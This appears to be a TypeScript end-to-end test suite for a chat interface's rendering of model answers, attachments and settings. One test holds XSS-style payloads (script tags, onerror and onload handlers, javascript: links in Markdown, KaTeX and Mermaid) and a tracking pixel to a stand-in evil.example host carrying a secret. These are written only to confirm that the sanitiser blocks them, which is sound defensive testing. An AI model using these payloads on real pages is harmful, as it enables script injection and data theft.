/** What a model says, on the page: Markdown, code, formulas, diagrams, thinking; and what it may not do. Files that are attached. Both themes. */
import { jest } from '@jest/globals';
import { answered, answers, chatHouse, composer, type ChatHouse } from './support/chat.js';
import { openPage, type OpenPage } from './support/page.js';
import { soon } from './support/soon.js';

jest.setTimeout(120_000);
let house: ChatHouse;
beforeAll(async () => {
  house = await chatHouse(false);
}, 60_000);
afterAll(() => house.end());

/** Asks the stand-in provider in a chat of its own. */
async function told(text: string, options: Parameters<typeof openPage>[2] & { thinking?: string; title?: string } = {}): Promise<OpenPage> {
  const { thinking, title = 'A chat', ...rest } = options;
  const chat = await house.rig.client.createChat({ body: { model: 'cloud', title } });
  const open = await openPage(house.rig, `/chat/${chat.id}`, rest);
  house.says(text, thinking);
  await composer(open.page).fill('Show me everything you can');
  await composer(open.page).press('Enter');
  await open.page.getByRole('button', { name: 'Regenerate' }).waitFor();
  return open;
}

const RICH = `# Everything at once

Text with **bold**, *italic*, \`code\`, a [link](https://example.org/page) and \\(E = mc^2\\), for $5 only.

$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$

| Model | Memory | Speed |
|---|---:|---:|
| Qwen 3 4B | 2.4 GB | 88 tok/s |
| Llama 3.3 70B | 39 GB | 9 tok/s |

- [x] done
- [ ] to do

\`\`\`python
def greet(name: str) -> str:
    """A greeting."""
    return f"Hello, {name}!"
\`\`\`

\`\`\`mermaid
graph LR
  A[Question] --> B{Fits?}
  B -->|yes| C[Answer]
  B -->|no| D[Trim]
\`\`\`

> A quotation.

1. first
2. second`;

test.each(['light', 'dark'] as const)('tables, formulas, colours, diagrams and thinking, %s', async (theme) => {
  const { page, axe, shot, expectNoErrors } = await told(RICH, {
    theme,
    thinking: 'They want to see everything.',
    height: 1500,
    title: `Everything (${theme})`,
  });
  const answer = answers(page).last();
  await answer.getByRole('columnheader', { name: 'Memory' }).waitFor();
  await answer.locator('.katex').first().waitFor();
  await soon(() => answer.locator('.katex-error').count()).toBe(0);
  await soon(() => answer.getByText('for $5 only').count()).toBe(1);
  await answer.locator('.token', { hasText: 'return' }).first().waitFor();
  const diagram = answer.getByRole('img', { name: /^Diagram/ });
  await diagram.waitFor();
  await soon(() => diagram.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 50)).toBe(true);
  const link = answer.getByRole('link', { name: 'link' });
  expect([await link.getAttribute('target'), await link.getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer nofollow']);
  await answer.getByRole('button', { name: /^Thought/ }).click();
  await answer.getByText('They want to see everything.').waitFor();
  await answer.getByRole('button', { name: 'Copy code' }).first().click();
  await soon(() => page.evaluate(() => navigator.clipboard.readText())).toContain('def greet');
  await page.mouse.move(0, 0);
  await shot(`chat-rich-${theme}`);
  await axe();
  await answer.getByRole('button', { name: 'Show Source' }).click();
  await answer.getByText('graph LR').waitFor();
  await page.setViewportSize({ width: 800, height: 560 });
  await shot(`chat-small-${theme}`);
  await axe();
  expectNoErrors();
});

test('hostile Markdown runs nothing, asks nobody and links nowhere it should not', async () => {
  const hostile = `Look: <img src="https://evil.example/a.png" onerror="window.hacked=1"><script>window.hacked=2</script><iframe src="https://evil.example"></iframe>

![tracking](https://evil.example/pixel.png?secret=1) ![local](/api/settings) ![data](data:image/svg+xml,<svg onload="window.hacked=3"/>)

[script](javascript:window.hacked=4) [data](data:text/html,x) [local](/api/agent) [fine](https://example.org)

$$\\href{javascript:window.hacked=5}{x} \\includegraphics{https://evil.example/b.png} \\htmlClass{fixed}{y}$$

\`\`\`mermaid
graph LR
  A["<img src=x onerror=window.hacked=6>"] --> B["#lt;img src=x onerror=window.hacked=9#gt; #60;img src=x onerror=window.hacked=10#62;"]
  click A "javascript:window.hacked=7"
\`\`\`

\`\`\`html
<script>window.hacked=8</script>
\`\`\`
`;
  const { page, expectNoErrors, axe, shot } = await told(hostile, { expected: /^never$/ });
  const answer = answers(page).last();
  await answer
    .getByRole('img', { name: /^Diagram/ })
    .or(answer.getByText('This is no diagram'))
    .first()
    .waitFor();
  await answer.locator('.token').first().waitFor();
  await soon(() => page.evaluate(() => (window as { hacked?: number }).hacked ?? 0)).toBe(0);
  await soon(() => answer.locator('script, iframe, object, embed, form').count()).toBe(0);
  const sources = await answer.locator('img').evaluateAll((images: HTMLImageElement[]) => images.map((image) => image.src));
  expect(sources.every((source) => source.startsWith('blob:'))).toBe(true);
  const hrefs = await answer.locator('a').evaluateAll((links: HTMLAnchorElement[]) => links.map((link) => link.getAttribute('href')));
  expect(hrefs).toEqual(['https://evil.example/pixel.png?secret=1', 'https://example.org']);
  await soon(() => answer.getByText('from evil.example').count()).toBe(1);
  await soon(() => answer.getByRole('link', { name: 'Load Image' }).getAttribute('rel')).toContain('noreferrer');
  await axe();
  await shot('chat-hostile');
  expectNoErrors();
});

test('what no parser bears is shown as it was written, and what stands beside it as it should be', async () => {
  const { page, expectNoErrors } = await told(
    [
      'First **words**.',
      `${'> '.repeat(5000)}deep`,
      `$${'{'.repeat(1900)}x${'}'.repeat(1900)}$`,
      `$$${'x+'.repeat(30_000)}y$$`,
      'a**b'.repeat(20_000),
      '['.repeat(30_000),
      'Last **words**.',
    ].join('\n\n'),
  );
  const answer = answers(page).last();
  await answer.locator('strong', { hasText: 'words' }).nth(1).waitFor();
  await answer.getByText('deep').waitFor();
  await composer(page).fill('The page is alive');
  expectNoErrors();
});

test('a list of 5,000 lines is written without holding up who types; Hebrew runs from the right, and nothing reaches out of a link', async () => {
  const chat = await house.rig.client.createChat({ body: { model: 'cloud', title: 'Long' } });
  const { page, expectNoErrors } = await openPage(house.rig, `/chat/${chat.id}`);
  await composer(page).waitFor();
  const writing = house.writes();
  await composer(page).fill('Go on');
  await composer(page).press('Enter');
  await writing.said;
  for (let i = 0; i < 5000; i += 250) {
    writing.piece(Array.from({ length: 250 }, (_, j) => `- item **${i + j}** with \`code\` and words enough to be a line\n`).join(''));
    // One piece of the stream after the other, as a model writes them.
    await answers(page)
      .getByText(`item ${i + 249} with`)
      .or(answers(page).getByText(`item **${i + 249}**`))
      .first()
      .waitFor({ timeout: 60_000 });
  }
  await composer(page).pressSequentially('meanwhile');
  writing.piece('\n\nשלום \u202Eעולם [link](https://example.org)\n');
  writing.end();
  await page.getByRole('button', { name: 'Regenerate' }).waitFor({ timeout: 60_000 });
  await soon(() => answers(page).last().locator('li').count()).toBe(5000);
  // Nobody scrolled: the end is in sight.
  const toEnd = page.getByRole('button', { name: 'To the End' });
  await soon(() => toEnd.count()).toBe(0);
  await answers(page).last().hover();
  await page.mouse.wheel(0, -1000);
  await toEnd.waitFor();
  const look = (selector: string) =>
    answers(page)
      .last()
      .locator(selector)
      .last()
      .evaluate((element) => getComputedStyle(element).unicodeBidi);
  expect([await look('p'), await look('a')]).toEqual(['plaintext', 'isolate']);
  expectNoErrors();
});

test('files by button, paste and drop: pictures, films, text without an ending; what no model reads is refused', async () => {
  const { client } = house.rig;
  const chat = await client.createChat({ body: { model: 'cloud', title: 'Files' } });
  const { page, expectNoErrors, axe, shot } = await openPage(house.rig, `/chat/${chat.id}`);
  const waiting = page.getByRole('list', { name: 'Files to send' }).getByRole('listitem');
  await composer(page).waitFor();
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Attach files' }).click()]);
  await chooser.setFiles([
    { name: 'Makefile', mimeType: '', buffer: Buffer.from('all:\n\techo hi\n') },
    { name: 'Dockerfile', mimeType: '', buffer: Buffer.from('FROM scratch\n') },
  ]);
  await page.getByRole('button', { name: 'Remove Dockerfile' }).waitFor();
  const give = (kind: 'paste' | 'drop', name: string, bytes: number[]) =>
    composer(page).evaluate(
      (field, [how, called, content]) => {
        const data = new DataTransfer();
        data.items.add(new File([new Uint8Array(content)], called));
        const event =
          how === 'paste'
            ? new ClipboardEvent('paste', { clipboardData: data, bubbles: true })
            : new DragEvent('drop', { dataTransfer: data, bubbles: true });
        field.dispatchEvent(event);
      },
      [kind, name, bytes] as const,
    );
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  await give('paste', 'shot.png', [...png]);
  await give('drop', 'README', [...Buffer.from('Read me')]);
  await page.getByRole('button', { name: 'Remove README' }).waitFor();
  await give('drop', 'archive.zip', [80, 75, 0, 0]);
  await page.getByText('The file archive.zip cannot be given to the model').waitFor();
  await page.getByRole('button', { name: 'Remove Dockerfile' }).click();
  await soon(() => waiting.count()).toBe(3);
  await page.waitForFunction(() => document.querySelector('[aria-label="Being attached"]') === null);
  await axe();
  await shot('chat-files');
  house.says('Three files.');
  await composer(page).fill('What are these?');
  await composer(page).press('Enter');
  await answered(page, 'Three files.');
  const mine = page.getByRole('article', { name: 'You' });
  await mine.getByRole('img', { name: 'shot.png' }).waitFor();
  await mine.getByRole('link', { name: 'Makefile' }).waitFor();
  const { messages } = await client.getChat({ params: { chatId: chat.id } });
  expect(messages[0]?.parts.map((part) => ('name' in part ? `${part.type} ${part.name}` : part.type))).toEqual([
    'file Makefile',
    'image shot.png',
    'file README',
    'text',
  ]);
  expectNoErrors();
});

test('settings and templates: a system prompt reaches the model, a template is filled in', async () => {
  const { client } = house.rig;
  const chat = await client.createChat({ body: { model: 'cloud', title: 'Settings' } });
  const { page, expectNoErrors, axe, shot } = await openPage(house.rig, `/chat/${chat.id}`);
  await page.getByRole('button', { name: 'Chat settings' }).click();
  await page.getByRole('textbox', { name: 'System prompt' }).fill('You are a pirate.');
  await page.getByRole('textbox', { name: 'Temperature' }).fill('9');
  await page.getByText('0 to 5').waitFor();
  await page.getByRole('textbox', { name: 'Temperature' }).fill('0.5');
  await axe();
  await shot('chat-settings');
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  await client.createTemplate({ body: { name: 'Ask like this', text: 'Explain {topic} to a {who:child}.' } });
  await page.getByRole('button', { name: 'Insert a template' }).click();
  await page.getByRole('textbox', { name: 'Search templates' }).fill('like this');
  await page.getByRole('button', { name: /Ask like this/ }).click();
  await page.getByRole('textbox', { name: 'topic' }).fill('memory');
  await page.keyboard.press('Enter');
  await page.waitForFunction(
    () => document.querySelector<HTMLTextAreaElement>('textarea[aria-label="Message"]')?.value === 'Explain memory to a child.',
  );
  house.says('Arr.');
  await composer(page).press('Enter');
  await answered(page, 'Arr.');
  expect(house.provider.asked.at(-1)?.body).toMatchObject({
    temperature: 0.5,
    messages: [
      { role: 'system', content: 'You are a pirate.' },
      { role: 'user', content: 'Explain memory to a child.' },
    ],
  });
  expectNoErrors();
});
